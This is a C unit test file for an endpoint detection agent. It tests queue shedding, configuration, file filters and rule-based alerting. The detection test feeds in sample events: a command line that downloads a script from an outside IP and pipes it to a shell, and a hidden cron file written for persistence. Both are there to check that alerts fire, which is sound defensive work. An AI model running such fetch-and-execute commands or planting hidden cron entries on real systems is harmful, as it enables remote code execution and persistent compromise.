/*
 * test_agent_core.c - the agent's core without collectors: the emit queue's shedding order
 * and counters, the settings table (defaults, YAML, bounds, unknown keys, dump), file
 * filters, and local detection producing alerts with the trigger and ancestry on events
 * handed to agent_process() the way the loop does.
 */
#include <errno.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cmocka.h>

#include "bannin/config.h"
#include "bannin/error.h"

#include "agent/agent.h"

static char tmpdir[256];

static int
setup(void **state)
{
    (void)state;
    snprintf(tmpdir, sizeof(tmpdir), "/tmp/bn_core_XXXXXX");
    return mkdtemp(tmpdir) ? 0 : -1;
}

static int
teardown(void **state)
{
    (void)state;
    char cmd[300];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
    return system(cmd) == 0 ? 0 : -1;
}

static struct agent *
new_agent(struct agent_config *c)
{
    struct agent *a = NULL;
    struct bn_diag d;
    bn_diag_clear(&d);
    int rc = agent_new(&a, c, &d);
    if (rc)
        fprintf(stderr, "agent_new: %s\n", d.msg);
    assert_int_equal(rc, 0);
    return a;
}

static void
file_event(struct agent_event *ev, enum agent_prio prio, int i, char *path, size_t size)
{
    memset(ev, 0, sizeof(*ev));
    ev->kind = prio == AGENT_PRIO_BULK ? AGENT_EV_FILE_WRITE : AGENT_EV_PROCESS_CREATE;
    if (prio == AGENT_PRIO_CRITICAL)
        ev->kind = AGENT_EV_TAMPER;
    ev->prio = prio;
    snprintf(path, size, "/tmp/f%d", i);
    ev->path = path;
}

static void
test_queue_shedding(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    c.detect = false;
    c.bulk_rate = 0;
    c.queue_events = 64;
    struct agent *a = new_agent(&c);
    struct agent_event ev;
    char path[64];

    for (int i = 0; i < 64; i++) {
        file_event(&ev, AGENT_PRIO_BULK, i, path, sizeof(path));
        assert_int_equal(agent_emit(a, &ev), 0);
    }
    /* full: each high event evicts the oldest bulk one */
    for (int i = 100; i < 110; i++) {
        file_event(&ev, AGENT_PRIO_HIGH, i, path, sizeof(path));
        assert_int_equal(agent_emit(a, &ev), 0);
    }
    file_event(&ev, AGENT_PRIO_CRITICAL, 200, path, sizeof(path));
    assert_int_equal(agent_emit(a, &ev), 0);
    /* a bulk event has nothing below it to evict: it is refused */
    file_event(&ev, AGENT_PRIO_BULK, 300, path, sizeof(path));
    assert_int_equal(agent_emit(a, &ev), BN_ETOOBIG);

    struct agent_counters k;
    agent_counters(a, &k);
    assert_int_equal(k.emitted, 76);
    assert_int_equal(k.queued, 75);
    assert_int_equal(k.shed, 12);
    assert_int_equal(k.shed_by_prio[AGENT_PRIO_BULK], 12);
    assert_int_equal(k.shed_by_prio[AGENT_PRIO_HIGH], 0);
    assert_int_equal(k.shed_by_kind[AGENT_EV_FILE_WRITE], 12);
    assert_int_equal(k.queue_depth, 64);

    /* arrival order is kept across priorities: bulk 11..63, high 100..109, critical 200 */
    struct agent_event got;
    for (int i = 11; i < 64; i++) {
        assert_int_equal(agent_queue_pop(a, &got), 0);
        snprintf(path, sizeof(path), "/tmp/f%d", i);
        assert_string_equal(got.path, path);
        assert_int_equal(got.prio, AGENT_PRIO_BULK);
        agent_event_release(&got);
    }
    for (int i = 100; i < 110; i++) {
        assert_int_equal(agent_queue_pop(a, &got), 0);
        snprintf(path, sizeof(path), "/tmp/f%d", i);
        assert_string_equal(got.path, path);
        agent_event_release(&got);
    }
    assert_int_equal(agent_queue_pop(a, &got), 0);
    assert_int_equal(got.kind, AGENT_EV_TAMPER);
    agent_event_release(&got);
    assert_int_equal(agent_queue_pop(a, &got), BN_EOF);

    /* a queue full of high events: normal and high are refused, critical evicts a high one */
    for (int i = 0; i < 64; i++) {
        file_event(&ev, AGENT_PRIO_HIGH, i, path, sizeof(path));
        assert_int_equal(agent_emit(a, &ev), 0);
    }
    file_event(&ev, AGENT_PRIO_HIGH, 500, path, sizeof(path));
    ev.prio = AGENT_PRIO_NORMAL;
    ev.kind = AGENT_EV_PROCESS_TERMINATE;
    assert_int_equal(agent_emit(a, &ev), BN_ETOOBIG);
    file_event(&ev, AGENT_PRIO_HIGH, 501, path, sizeof(path));
    assert_int_equal(agent_emit(a, &ev), BN_ETOOBIG);
    file_event(&ev, AGENT_PRIO_CRITICAL, 502, path, sizeof(path));
    assert_int_equal(agent_emit(a, &ev), 0);
    agent_counters(a, &k);
    assert_int_equal(k.shed_by_prio[AGENT_PRIO_NORMAL], 1);
    assert_int_equal(k.shed_by_prio[AGENT_PRIO_HIGH], 2);
    assert_int_equal(k.shed_by_kind[AGENT_EV_PROCESS_TERMINATE], 1);
    assert_int_equal(k.shed_by_kind[AGENT_EV_PROCESS_CREATE], 2);
    assert_int_equal(agent_queue_pop(a, &got), 0);
    assert_string_equal(got.path, "/tmp/f1"); /* f0 was evicted */
    agent_event_release(&got);

    agent_free(a); /* frees what is still queued */
    agent_config_release(&c);
}

static void
test_emit_copies(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    c.detect = false;
    struct agent *a = new_agent(&c);
    struct agent_event ev;
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_AUTH;
    ev.prio = AGENT_PRIO_HIGH;
    char cmd[] = "sudo -l", val[] = "alice";
    ev.proc.cmdline = cmd;
    ev.extra_keys[0] = "user";
    ev.extra_vals[0] = val;
    ev.nextra = 1;
    assert_int_equal(agent_emit(a, &ev), 0);
    cmd[0] = 'X';
    val[0] = 'X';
    struct agent_event got;
    assert_int_equal(agent_queue_pop(a, &got), 0);
    assert_string_equal(got.proc.cmdline, "sudo -l");
    assert_string_equal(got.extra_vals[0], "alice");
    assert_ptr_not_equal(got.proc.cmdline, cmd);
    agent_event_release(&got);
    assert_null(got.proc.cmdline);
    assert_int_equal(agent_emit(NULL, &ev), BN_EINVAL);
    agent_free(a);
    agent_config_release(&c);
}

static void
test_bulk_rate(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    c.detect = false;
    c.bulk_rate = 10;
    struct agent *a = new_agent(&c);
    struct agent_event ev;
    char path[64];
    int refused = 0;
    for (int i = 0; i < 200; i++) {
        file_event(&ev, AGENT_PRIO_BULK, i, path, sizeof(path));
        refused += agent_emit(a, &ev) != 0;
    }
    for (int i = 0; i < 50; i++) {
        file_event(&ev, AGENT_PRIO_HIGH, i, path, sizeof(path));
        assert_int_equal(agent_emit(a, &ev), 0); /* never sampled */
    }
    struct agent_counters k;
    agent_counters(a, &k);
    assert_int_equal(k.sampled, (uint64_t)refused);
    assert_int_equal(k.queued + k.sampled, 250);
    /* over the rate 1 in 16 is kept: at most a second boundary lets another 10 through */
    assert_true(k.sampled >= 150);
    assert_true(k.queued >= 50 + 10);
    assert_int_equal(k.shed, 0);
    agent_free(a);
    agent_config_release(&c);
}

struct emitter {
    struct agent *a;
    int id;
    uint64_t refused;
};

static void *
emit_many(void *arg)
{
    struct emitter *e = arg;
    struct agent_event ev;
    char path[64];
    for (int i = 0; i < 5000; i++) {
        file_event(&ev, (enum agent_prio)((i + e->id) % 4), i, path, sizeof(path));
        if (agent_emit(e->a, &ev) != 0)
            e->refused++;
    }
    return NULL;
}

/* Four producers against one consumer on a small queue: every event is either taken,
 * still queued or counted as shed; alerts/status (critical) are never refused while a
 * lower priority is queued. */
static void
test_queue_concurrent(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    c.detect = false;
    c.bulk_rate = 0;
    c.queue_events = 64;
    struct agent *a = new_agent(&c);
    struct emitter em[4];
    pthread_t th[4];
    for (int i = 0; i < 4; i++) {
        em[i] = (struct emitter){.a = a, .id = i};
        assert_int_equal(pthread_create(&th[i], NULL, emit_many, &em[i]), 0);
    }
    uint64_t popped = 0, last_by_thread_ok = 1;
    struct agent_event ev;
    for (int spins = 0; spins < 2000000; spins++) {
        if (agent_queue_pop(a, &ev) == 0) {
            popped++;
            if (!ev.path)
                last_by_thread_ok = 0;
            agent_event_release(&ev);
        }
        if (popped > 0 && spins % 1000 == 0) {
            struct agent_counters k;
            agent_counters(a, &k);
            if (k.emitted == 20000)
                break;
        }
    }
    for (int i = 0; i < 4; i++)
        pthread_join(th[i], NULL);
    while (agent_queue_pop(a, &ev) == 0) {
        popped++;
        agent_event_release(&ev);
    }
    struct agent_counters k;
    agent_counters(a, &k);
    uint64_t refused = em[0].refused + em[1].refused + em[2].refused + em[3].refused;
    assert_int_equal(k.emitted, 20000);
    assert_int_equal(k.processed, popped);
    assert_int_equal(k.emitted, k.queued + refused);
    /* shed = refused at the door + evicted after queueing (queued but never popped) */
    assert_int_equal(k.shed, refused + (k.queued - popped));
    assert_int_equal(k.queue_depth, 0);
    assert_int_equal(k.shed_by_prio[0] + k.shed_by_prio[1] + k.shed_by_prio[2] +
                         k.shed_by_prio[3], k.shed);
    assert_true(k.shed_by_prio[AGENT_PRIO_CRITICAL] <= k.shed_by_prio[AGENT_PRIO_BULK]);
    assert_true(last_by_thread_ok);
    agent_free(a);
    agent_config_release(&c);
}

static void
write_text(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
}

static void
test_config_table(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    assert_false(c.out_stdout);
    assert_int_equal(c.tier, 0);
    assert_int_equal(c.queue_events, 16384);
    assert_int_equal(c.heartbeat_ms, 60000);
    assert_int_equal(c.rss_max, 64ull << 20);
    assert_true(c.detect);
    assert_true(c.builtin_rules);
    assert_non_null(strstr(c.files_include, "/etc"));

    char path[400];
    snprintf(path, sizeof(path), "%s/agent.yml", tmpdir);
    write_text(path, "output:\n  stdout: true\n  file: /var/log/x.ndjson\n"
                     "collect:\n  tier: poll\nlimits:\n  cpu_percent: 3\n  rss_max: 32m\n"
                     "heartbeat:\n  interval: 5s\nfiles:\n  include: /etc, /srv\n");
    struct bn_diag d;
    bn_diag_clear(&d);
    assert_int_equal(agent_config_load(&c, path, &d), 0);
    assert_true(c.out_stdout);
    assert_string_equal(c.out_file, "/var/log/x.ndjson");
    assert_int_equal(c.tier, AGENT_TIER_POLL);
    assert_int_equal(c.cpu_percent, 3);
    assert_int_equal(c.rss_max, 32ull << 20);
    assert_int_equal(c.heartbeat_ms, 5000);

    const char *items[8];
    char buf[128];
    assert_int_equal(agent_config_split(c.files_include, buf, sizeof(buf), items, 8), 2);
    assert_string_equal(items[0], "/etc");
    assert_string_equal(items[1], "/srv");
    assert_int_equal(agent_config_split(" a ,, b,", buf, sizeof(buf), items, 8), 2);
    assert_string_equal(items[1], "b");
    assert_int_equal(agent_config_split("a,b,c", buf, sizeof(buf), items, 2), 2);

    /* unknown keys and values out of bounds are errors with the line */
    write_text(path, "output:\n  stdout: true\n  stdot: false\n");
    bn_diag_clear(&d);
    assert_int_not_equal(agent_config_load(&c, path, &d), 0);
    assert_int_equal(d.line, 3);
    assert_non_null(strstr(d.msg, "stdot"));
    write_text(path, "limits:\n  cpu_percent: 0\n");
    bn_diag_clear(&d);
    assert_int_not_equal(agent_config_load(&c, path, &d), 0);
    write_text(path, "collect:\n  tier: ebpf\n");
    bn_diag_clear(&d);
    assert_int_not_equal(agent_config_load(&c, path, &d), 0);

    /* every key has help and appears in the dump */
    char *dump = NULL;
    size_t dlen = 0;
    FILE *f = open_memstream(&dump, &dlen);
    assert_non_null(f);
    bn_conf_dump(agent_conf_defs, agent_conf_ndefs, &c, f);
    fclose(f);
    for (size_t i = 0; i < agent_conf_ndefs; i++) {
        assert_non_null(agent_conf_defs[i].help);
        const char *leaf = strrchr(agent_conf_defs[i].key, '.');
        assert_non_null(strstr(dump, leaf ? leaf + 1 : agent_conf_defs[i].key));
    }
    free(dump);
    agent_config_release(&c);
}

/* An agent that writes NDJSON to a file in tmpdir and runs the shipped rules. */
static struct agent *
detecting_agent(struct agent_config *c, char *out, size_t size)
{
    assert_int_equal(agent_config_init(c), 0);
    snprintf(out, size, "%s/out-%d.ndjson", tmpdir, rand());
    struct bn_diag d;
    bn_diag_clear(&d);
    assert_int_equal(bn_conf_set(agent_conf_defs, agent_conf_ndefs, c, "output.file", out, &d),
                     0);
    c->bulk_rate = 0;
    return new_agent(c);
}

static char *
slurp(const char *path)
{
    FILE *f = fopen(path, "r");
    assert_non_null(f);
    static char buf[1 << 20];
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    buf[n] = '\0';
    fclose(f);
    return buf;
}

/* agent_process consumes the event: hand it an owned copy, as the loop does. */
static int
process(struct agent *a, const struct agent_event *ev)
{
    struct agent_event owned;
    assert_int_equal(agent_event_copy(&owned, ev), 0);
    return agent_process(a, &owned);
}

static size_t
count(const char *hay, const char *needle)
{
    size_t n = 0;
    for (const char *p = hay; (p = strstr(p, needle)) != NULL; p += strlen(needle))
        n++;
    return n;
}

static void
test_detection(void **state)
{
    (void)state;
    struct agent_config c;
    char out[400];
    struct agent *a = detecting_agent(&c, out, sizeof(out));
    struct agent_event ev;

    /* a download piped to a shell, from this very process (so ancestry is real) */
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_PROCESS_CREATE;
    ev.prio = AGENT_PRIO_HIGH;
    ev.proc.pid = getpid();
    ev.proc.exe = "/usr/bin/bash";
    ev.proc.cmdline = "bash -c curl -fsSL http://203.0.113.50/x.sh | sh";
    assert_int_equal(process(a, &ev), 0);
    /* benign twin */
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_PROCESS_CREATE;
    ev.prio = AGENT_PRIO_HIGH;
    ev.proc.pid = getpid();
    ev.proc.exe = "/usr/bin/bash";
    ev.proc.cmdline = "bash -c curl -s https://api.example.org/health | jq .status";
    assert_int_equal(process(a, &ev), 0);

    struct agent_counters k;
    agent_counters(a, &k);
    assert_int_equal(k.alerts, 1);
    assert_int_equal(k.match_errors, 0);

    /* a cron file written: tagged persistence, not filtered, and alerted */
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_FILE_CREATE;
    ev.prio = AGENT_PRIO_BULK;
    ev.proc.pid = getpid();
    ev.path = "/etc/cron.d/.sysupdate";
    ev.ts_ns = 1764000000000000000LL;
    assert_int_equal(process(a, &ev), 0);
    agent_counters(a, &k);
    assert_int_equal(k.alerts, 2);
    assert_int_equal(k.filtered, 0);

    /* the same write seen again as close-after-write: one alert, the repeat counted */
    ev.kind = AGENT_EV_FILE_WRITE;
    ev.ts_ns += 100000000LL;
    assert_int_equal(process(a, &ev), 0);
    agent_counters(a, &k);
    assert_int_equal(k.alerts, 2);
    assert_int_equal(k.alerts_repeated, 1);
    /* written again 3 s later: a new alert */
    ev.ts_ns += 3000000000LL;
    assert_int_equal(process(a, &ev), 0);
    agent_counters(a, &k);
    assert_int_equal(k.alerts, 3);
    assert_int_equal(k.alerts_repeated, 1);

    /* outside the include list, and inside an exclude pattern: filtered and counted */
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_FILE_WRITE;
    ev.prio = AGENT_PRIO_BULK;
    ev.path = "/proc/self/whatever";
    assert_int_equal(process(a, &ev), 0);
    ev.path = "/home/alice/.cache/thumbs/x.png";
    assert_int_equal(process(a, &ev), 0);
    ev.path = "/home/alice/notes.txt"; /* kept */
    assert_int_equal(process(a, &ev), 0);
    agent_counters(a, &k);
    assert_int_equal(k.filtered, 2);
    agent_free(a);

    const char *text = slurp(out);
    /* 2 exec + 1 alert + 3 cron events + 2 alerts + 1 file */
    assert_int_equal(count(text, "\n"), 9);
    assert_int_equal(count(text, "\"EventID\":140"), 3);
    assert_non_null(strstr(text, "\"rule_title\":\"Remote Script Downloaded And Piped To A Shell\""));
    assert_non_null(strstr(text, "\"rule_level\":\"medium\""));
    assert_non_null(strstr(text, "attack.t1059.004"));
    assert_non_null(strstr(text, "\"trigger\":{\"Channel\":"));
    /* the ancestry starts at this test's parent */
    char want[64];
    snprintf(want, sizeof(want), "\"ancestry\":[{\"ProcessId\":%d,", (int)getppid());
    assert_non_null(strstr(text, want));
    assert_non_null(strstr(text, "\"bannin.category\":\"persistence.cron\""));
    assert_null(strstr(text, "/proc/self/whatever"));
    assert_null(strstr(text, "thumbs"));
    assert_non_null(strstr(text, "/home/alice/notes.txt"));
    agent_config_release(&c);
}

static void
test_enrichment(void **state)
{
    (void)state;
    struct agent_config c;
    char out[400];
    struct agent *a = detecting_agent(&c, out, sizeof(out));
    /* a file event carries only a pid: the table fills in the process and its parent */
    struct agent_event ev;
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_FILE_CREATE;
    ev.prio = AGENT_PRIO_BULK;
    ev.proc.pid = getpid();
    ev.path = "/tmp/enriched";
    assert_int_equal(process(a, &ev), 0);
    /* an exit for a pid nobody knows is written as it is */
    memset(&ev, 0, sizeof(ev));
    ev.kind = AGENT_EV_PROCESS_TERMINATE;
    ev.prio = AGENT_PRIO_NORMAL;
    ev.proc.pid = 4000000;
    ev.exit_code = 3;
    assert_int_equal(process(a, &ev), 0);
    agent_free(a);
    const char *text = slurp(out);
    assert_non_null(strstr(text, "test_agent_core"));
    assert_non_null(strstr(text, "\"ProcessId\":4000000"));
    assert_non_null(strstr(text, "\"bannin.ExitCode\":3"));
    agent_config_release(&c);
}

static void
test_start_forced_missing_tier(void **state)
{
    (void)state;
    struct agent_config c;
    assert_int_equal(agent_config_init(&c), 0);
    c.detect = false;
    c.tier = AGENT_TIER_BPF;
    struct agent *a = new_agent(&c);
    /* this test does not link the eBPF collector: a forced tier fails with a reason */
    struct bn_diag d;
    bn_diag_clear(&d);
    assert_int_equal(agent_start(a, &d), BN_EUNSUP);
    assert_non_null(strstr(d.msg, "bpf"));
    struct agent_counters k;
    agent_counters(a, &k);
    assert_true(k.processed >= 1); /* the tier_unavailable status went through the loop */
    agent_free(a);
    agent_config_release(&c);
}

/* The poller is linked on purpose (agent.c refers to collectors weakly). */
const void *const test_linked_collectors[] = {&agent_collector_proc_poll};

/* The whole path with a real collector and the loop thread: tier 3 is forced (it needs no
 * privileges), a child with a distinctive command line runs, and its exec, the status
 * events and a heartbeat come out of the output file. */
static void
test_start_poll_end_to_end(void **state)
{
    (void)state;
    struct agent_config c;
    char out[400];
    assert_int_equal(agent_config_init(&c), 0);
    snprintf(out, sizeof(out), "%s/e2e.ndjson", tmpdir);
    struct bn_diag d;
    bn_diag_clear(&d);
    assert_int_equal(bn_conf_set(agent_conf_defs, agent_conf_ndefs, &c, "output.file", out, &d),
                     0);
    assert_int_equal(bn_conf_set(agent_conf_defs, agent_conf_ndefs, &c, "collect.tier", "poll",
                                 &d), 0);
    assert_int_equal(bn_conf_set(agent_conf_defs, agent_conf_ndefs, &c, "heartbeat.interval",
                                 "300ms", &d), 0);
    struct agent *a = new_agent(&c);
    bn_diag_clear(&d);
    assert_int_equal(agent_start(a, &d), 0);
    assert_int_equal(agent_tier_in_use(a), AGENT_TIER_POLL);
    usleep(700 * 1000); /* the poller's first scan is its baseline: start the child after it */
    pid_t pid = fork();
    if (pid == 0) {
        execl("/bin/sleep", "sleep", "2.25", (char *)NULL);
        _exit(127);
    }
    assert_true(pid > 0);
    waitpid(pid, NULL, 0);
    usleep(1200 * 1000); /* one more poll sees it gone */
    agent_stop(a);
    struct agent_counters k;
    agent_counters(a, &k);
    assert_int_equal(k.shed, 0);
    agent_free(a);
    const char *text = slurp(out);
    if (!strstr(text, "\"CommandLine\":\"sleep 2.25\""))
        fprintf(stderr, "%s\n", text);
    assert_non_null(strstr(text, "\"CommandLine\":\"sleep 2.25\""));
    assert_non_null(strstr(text, "\"status\":\"started\""));
    assert_non_null(strstr(text, "\"status\":\"heartbeat\""));
    assert_non_null(strstr(text, "\"status\":\"stopping\""));
    assert_non_null(strstr(text, "\"bannin.tier\":\"poll\""));
    agent_config_release(&c);
}

int
main(void)
{
    srand((unsigned)getpid());
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_queue_shedding),
        cmocka_unit_test(test_emit_copies),
        cmocka_unit_test(test_bulk_rate),
        cmocka_unit_test(test_queue_concurrent),
        cmocka_unit_test(test_config_table),
        cmocka_unit_test(test_detection),
        cmocka_unit_test(test_enrichment),
        cmocka_unit_test(test_start_forced_missing_tier),
        cmocka_unit_test(test_start_poll_end_to_end),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
